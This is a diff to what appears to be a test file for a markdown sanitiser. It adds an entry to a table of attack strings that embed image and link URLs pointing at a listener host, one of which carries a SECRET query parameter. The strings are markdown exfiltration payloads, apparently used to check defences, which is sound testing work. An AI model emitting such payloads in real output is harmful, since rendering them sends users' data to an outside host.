@@ -75,6 +75,7 @@ def visible_text(markdown: str) -> str:
 
 ATTACKS = {
     "image": f"See ![x]({LISTENER}/img?q=SECRET) now",
+    "bare url touching a code span": f"{LISTENER}/p`[``[`",
     "image with title": f'![x]({LISTENER}/img "t")',
     "image in link": f"[![x]({LISTENER}/img)]({LISTENER}/link)",
     "reference image": f"![x][r] and ![r]\n\n[r]: {LISTENER}/ref",
